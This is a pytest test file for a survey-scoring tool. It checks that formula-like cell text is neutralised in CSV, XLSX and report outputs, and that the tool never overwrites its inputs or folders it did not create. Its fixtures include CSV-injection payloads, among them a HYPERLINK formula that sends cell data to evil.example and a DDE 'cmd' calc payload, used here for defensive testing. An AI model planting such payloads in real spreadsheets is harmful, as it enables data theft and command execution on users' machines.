"""The output rule and the formula rule (empathy_metrics.outputs), in the library and the CLI."""

from __future__ import annotations

import json
import os
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from empathy_metrics import outputs
from empathy_metrics.cli import cli
from empathy_metrics.errors import InputError
from empathy_metrics.outputs import MANIFEST_NAME, neutralise, neutralise_frame

#: ids a spreadsheet would run as formulas (OWASP CSV injection examples), and safe ones
FORMULA_IDS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0",
               "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1"]
SAFE_IDS = ["S001", "a=b", "O'Brien"]


def run(args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def assert_no_formula_cells(path: Path) -> int:
    """Every cell of every sheet of a workbook is a value, never a formula; returns #cells."""
    wb = load_workbook(path)  # not read-only: data_type 'f' marks formula cells
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                n += 1
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(outputs.FORMULA_PREFIXES), cell.coordinate
    return n


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


@pytest.fixture
def survey(tmp_path) -> Path:
    """12 JSE-S respondents whose ids include formula-like text."""
    rng = np.random.default_rng(8)
    frame = pd.DataFrame(rng.integers(1, 8, size=(12, 20)),
                         columns=[f"JSE{i}" for i in range(1, 21)])
    frame.insert(0, "student_id", FORMULA_IDS + SAFE_IDS + ["S010", "S011", "S012"])
    frame.insert(1, "year", [1, 2] * 6)
    path = tmp_path / "survey.csv"
    frame.to_csv(path, index=False)
    return path


# ---------------------------------------------------------------------------- formula rule
@pytest.mark.parametrize("text", FORMULA_IDS)
def test_neutralise_prefixes_formula_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [*SAFE_IDS, -3.5, -2, 0, np.nan, None, True, ""])
def test_neutralise_keeps_other_values(value):
    out = neutralise(value)
    assert out is value or (isinstance(value, float) and np.isnan(out))


def test_neutralise_frame_keeps_numbers_and_types():
    frame = pd.DataFrame({"=label": ["=1+1", "men", None], "mean": [-1.25, 2.0, np.nan],
                          "n": [-3, 4, 5], "flag": [True, False, True],
                          "cat": pd.Categorical(["@x", "y", "@x"])})
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=label", "mean", "n", "flag", "cat"]
    assert out["'=label"].tolist()[:2] == ["'=1+1", "men"] and pd.isna(out["'=label"][2])
    assert out["mean"].dtype == float and out["mean"][0] == -1.25
    assert out["n"].dtype == np.int64 and out["flag"].dtype == bool
    assert out["cat"].tolist() == ["'@x", "y", "'@x"]
    assert frame["=label"][0] == "=1+1"  # the input is not modified


def test_write_xlsx_has_string_cells_numbers_and_the_mark(tmp_path):
    path = tmp_path / "t.xlsx"
    frame = pd.DataFrame({"id": FORMULA_IDS, "score": np.linspace(-2, 3, len(FORMULA_IDS))})
    outputs.write_xlsx({"scores": frame}, path)
    assert assert_no_formula_cells(path) == 2 * len(FORMULA_IDS) + 2
    ws = load_workbook(path).worksheets[0]
    assert ws["A2"].value == "'" + FORMULA_IDS[0] and ws["A2"].data_type == "s"
    assert ws["B2"].value == -2.0 and ws["B2"].data_type == "n"  # a negative number
    assert outputs.is_tool_workbook(path)
    other = tmp_path / "mine.xlsx"
    Workbook().save(other)
    assert not outputs.is_tool_workbook(other)
    assert not outputs.is_tool_workbook(tmp_path / "missing.xlsx")


def test_score_outputs_neutralise_formulas_and_json_stays_exact(survey, tmp_path):
    written = {}
    for suffix in (".csv", ".xlsx", ".json"):
        out = tmp_path / f"scores{suffix}"
        res = run(["score", survey, "-i", "jse-s", "--id-col", "student_id", "-o", out])
        assert res.exit_code == 0, res.output
        written[suffix] = out
    ids = [r["id"] for r in json.loads(written[".json"].read_text())["scores"]]
    assert ids[:5] == FORMULA_IDS[:5] and ids[6:9] == SAFE_IDS  # JSON keeps values exact
    csv = pd.read_csv(written[".csv"], keep_default_na=False)
    assert csv["student_id"].tolist()[:5] == ["'" + i for i in FORMULA_IDS[:5]]
    assert csv["student_id"].tolist()[6:9] == SAFE_IDS
    assert csv["total"].dtype == float  # numbers stay numbers
    assert assert_no_formula_cells(written[".xlsx"]) > 12 * 5
    ws = load_workbook(written[".xlsx"])["scores"]
    assert ws["A2"].value == "'" + FORMULA_IDS[0] and isinstance(ws["C2"].value, (int, float))


# ---------------------------------------------------------------------------- output rule
def test_output_resolving_to_an_input_is_refused(tmp_path, survey):
    link = tmp_path / "link.csv"
    link.symlink_to(survey)
    (tmp_path / "sub").mkdir()
    hard = tmp_path / "hard.csv"
    os.link(survey, hard)
    for out in (survey, link, tmp_path / "sub" / ".." / "survey.csv", hard):
        with pytest.raises(InputError, match="would overwrite the input"):
            outputs.check_outputs(files=[out], inputs=[str(survey)])
    with pytest.raises(InputError, match="holds the input"):
        outputs.check_outputs(folders=[tmp_path], inputs=[str(survey), None, "jse-s"])
    outputs.check_outputs(files=[tmp_path / "scores.csv"], inputs=[str(survey), "jse-s"])


def test_unsupported_missing_and_unwritable_outputs(tmp_path, monkeypatch):
    with pytest.raises(InputError, match="unsupported output format '.txt'"):
        outputs.check_outputs(files=[tmp_path / "x.txt"], suffixes=(".csv",))
    with pytest.raises(InputError, match="output folder does not exist"):
        outputs.check_outputs(files=[tmp_path / "nodir" / "x.csv"])
    (tmp_path / "f").write_text("")
    with pytest.raises(InputError, match="is a file, not a folder"):
        outputs.check_outputs(files=[tmp_path / "f" / "x.csv"])
    with pytest.raises(InputError, match="is a folder"):
        outputs.check_outputs(files=[tmp_path])
    monkeypatch.setattr(os, "access", lambda *a, **k: False)
    with pytest.raises(InputError, match="not writable"):
        outputs.check_outputs(files=[tmp_path / "x.csv"])


def test_foreign_workbook_and_folder_are_refused_tool_ones_replaced(tmp_path):
    mine = tmp_path / "mine.xlsx"
    Workbook().save(mine)
    with pytest.raises(InputError, match="not written by empathy-metrics"):
        outputs.check_outputs(files=[mine])
    outputs.write_xlsx({"s": pd.DataFrame({"a": [1]})}, tmp_path / "tool.xlsx")
    outputs.check_outputs(files=[tmp_path / "tool.xlsx"])
    folder = tmp_path / "tables"
    folder.mkdir()
    outputs.check_outputs(folders=[folder])  # empty: nothing to lose
    (folder / "notes.txt").write_text("mine")
    with pytest.raises(InputError, match="not created by empathy-metrics") as info:
        outputs.check_outputs(folders=[folder])
    assert str(folder) in str(info.value)


def _stage(folder: Path, files: dict[str, str]) -> None:
    with outputs.staged_folder(folder) as tmp:
        for name, text in files.items():
            (tmp / name).write_text(text)
        outputs.commit_folder(tmp, folder)


def test_commit_folder_replaces_only_its_own_files(tmp_path):
    folder = tmp_path / "r_tables"
    _stage(folder, {"01_a.csv": "a1", "02_b.csv": "b1"})
    assert json.loads((folder / MANIFEST_NAME).read_text())["files"] == ["01_a.csv", "02_b.csv"]
    (folder / "my_notes.txt").write_text("keep me")
    outside = tmp_path / "precious.csv"
    outside.write_text("outside")
    _stage(folder, {"01_a.csv": "a2", "03_c.csv": "c2"})
    assert snapshot(folder) == {MANIFEST_NAME: (folder / MANIFEST_NAME).read_bytes(),
                                "01_a.csv": b"a2", "03_c.csv": b"c2",
                                "my_notes.txt": b"keep me"}
    # a manifest never reaches outside its folder
    manifest = json.loads((folder / MANIFEST_NAME).read_text())
    manifest["files"] += ["../precious.csv", str(outside)]
    (folder / MANIFEST_NAME).write_text(json.dumps(manifest))
    _stage(folder, {"01_a.csv": "a3"})
    assert outside.read_text() == "outside" and (folder / "my_notes.txt").exists()
    assert not list(tmp_path.glob(".r_tables.*"))  # no staging folder left behind


def test_claim_folder_refuses_a_foreign_folder(tmp_path):
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "x").write_text("x")
    with pytest.raises(InputError, match="not created by empathy-metrics"):
        outputs.claim_folder(tmp_path / "d", ["a"])
    outputs.claim_folder(tmp_path / "new" / "deep", ["a"])
    outputs.claim_folder(tmp_path / "new" / "deep", ["b"])
    assert outputs.is_tool_folder(tmp_path / "new" / "deep")
    assert json.loads((tmp_path / "new" / "deep" / MANIFEST_NAME).read_text())["files"] == [
        "a", "b"]


# ---------------------------------------------------------------------------- CLI, up front
def _refused(args, inputs: list[Path], message: str, *, cwd: Path) -> None:
    before = snapshot(cwd)
    res = run(args)
    assert res.exit_code == 2, res.output
    assert message in res.output and "Traceback" not in res.output
    assert snapshot(cwd) == before  # inputs byte-identical, nothing written
    for p in inputs:
        assert p.exists()


def test_report_refuses_its_input_as_output(survey, tmp_path):
    base = ["report", survey, "-i", "jse-s", "--time", "year"]
    _refused([*base, "-o", survey], [survey], "would overwrite the input", cwd=tmp_path)
    link = tmp_path / "out.html"
    link.symlink_to(survey)
    _refused([*base, "-o", link], [survey], "would overwrite the input", cwd=tmp_path)
    # an input living in the tables folder the report would write
    folder = tmp_path / "jse_tables"
    folder.mkdir()
    inner = folder / "survey.csv"
    inner.write_bytes(survey.read_bytes())
    _refused(["report", inner, "-i", "jse-s", "--time", "year", "-o", tmp_path / "jse.html"],
             [inner], "holds the input", cwd=tmp_path)
    # the workbook beside the report is the input workbook
    book = tmp_path / "survey_tables.xlsx"
    pd.read_csv(survey).to_excel(book, index=False)
    _refused(["report", book, "-i", "jse-s", "--time", "year", "-o", tmp_path / "survey.html"],
             [book], "would overwrite the input", cwd=tmp_path)
    _refused([*base, "-o", tmp_path / "out.txt"], [survey], "unsupported output format",
             cwd=tmp_path)


def test_report_refuses_a_foreign_tables_folder_and_workbook(survey, tmp_path):
    base = ["report", survey, "-i", "jse-s", "--time", "year", "-o", tmp_path / "r.html"]
    (tmp_path / "r_tables").mkdir()
    (tmp_path / "r_tables" / "budget.csv").write_text("keep")
    _refused(base, [survey], "r_tables: this folder exists and was not created", cwd=tmp_path)
    (tmp_path / "r_tables" / "budget.csv").unlink()
    Workbook().save(tmp_path / "r_tables.xlsx")
    _refused(base, [survey], "r_tables.xlsx: this workbook exists and was not written",
             cwd=tmp_path)


def test_score_and_trend_refuse_before_any_work(survey, tmp_path, monkeypatch):
    import empathy_metrics.cohorts as cohorts
    import empathy_metrics.scoring as scoring

    def never(*args, **kwargs):
        raise AssertionError("the analysis ran before the output was checked")

    monkeypatch.setattr(cohorts, "trend", never)
    monkeypatch.setattr(scoring, "score", never)
    _refused(["trend", survey, "-i", "jse-s", "--time", "year", "--plot",
              tmp_path / "nodir" / "t.png"], [survey], "output folder does not exist",
             cwd=tmp_path)
    _refused(["trend", survey, "-i", "jse-s", "--time", "year", "--plot", survey], [survey],
             "would overwrite the input", cwd=tmp_path)
    _refused(["score", survey, "-i", "jse-s", "-o", tmp_path / "s.txt"], [survey],
             "unsupported output format '.txt'", cwd=tmp_path)
    _refused(["score", survey, "-i", "jse-s", "-o", tmp_path / "." / "survey.csv"], [survey],
             "would overwrite the input", cwd=tmp_path)
    mine = tmp_path / "mine.xlsx"
    Workbook().save(mine)
    _refused(["score", survey, "-i", "jse-s", "-o", mine], [mine], "not written by",
             cwd=tmp_path)


def test_demo_refuses_a_foreign_folder_and_write_demo_keeps_other_files(tmp_path):
    from empathy_metrics.simulate import write_demo

    foreign = tmp_path / "mine"
    foreign.mkdir()
    (foreign / "thesis.docx").write_text("years of work")
    _refused(["demo", foreign], [foreign / "thesis.docx"], "not created by empathy-metrics",
             cwd=tmp_path)
    demo = tmp_path / "demo"
    write_demo(demo, n_per_cohort=10, seed=1)
    (demo / "mine.txt").write_text("keep")
    write_demo(demo, n_per_cohort=12, seed=1)
    assert (demo / "mine.txt").read_text() == "keep"


# ---------------------------------------------------------------------------- report outputs
@pytest.fixture(scope="module")
def formula_report(tmp_path_factory):
    """A small report whose group labels look like formulas, written once."""
    from empathy_metrics.report import build_report
    from empathy_metrics.simulate import simulate

    frame = simulate(n_per_cohort=40, seed=3)
    frame["gender"] = frame["gender"].replace({"female": FORMULA_IDS[0], "male": "@SUM(1+1)"})
    rep = build_report(frame, "jse-s", time="year", id="student_id", cohort="cohort",
                       group="gender", options={"invariance": False, "parallel_iter": 5})
    out = tmp_path_factory.mktemp("rep") / "r.html"
    rep.write(out)
    return rep, out


def test_report_tables_carry_no_live_formula(formula_report):
    rep, out = formula_report
    assert assert_no_formula_cells(out.with_name("r_tables.xlsx")) > 100
    texts = "".join(p.read_text(encoding="utf-8-sig")
                    for p in out.with_name("r_tables").glob("*.csv"))
    assert "'=HYPERLINK" in texts and "'@SUM(1+1)" in texts
    for line in texts.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@", '"=', '"+', '"@')), line


def test_report_rewrite_keeps_a_users_file_in_the_tables_folder(formula_report):
    rep, out = formula_report
    folder = out.with_name("r_tables")
    (folder / "my_chart.png").write_bytes(b"png")
    stale = folder / "99_old_table.csv"
    stale.write_text("old")
    manifest = json.loads((folder / MANIFEST_NAME).read_text())
    manifest["files"].append(stale.name)
    (folder / MANIFEST_NAME).write_text(json.dumps({**manifest}))
    rep.write(out)
    assert (folder / "my_chart.png").read_bytes() == b"png"
    assert not stale.exists()  # the tool's own earlier file, no longer written
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [MANIFEST_NAME, "my_chart.png", *(t.csv_name for t in rep.tables)])
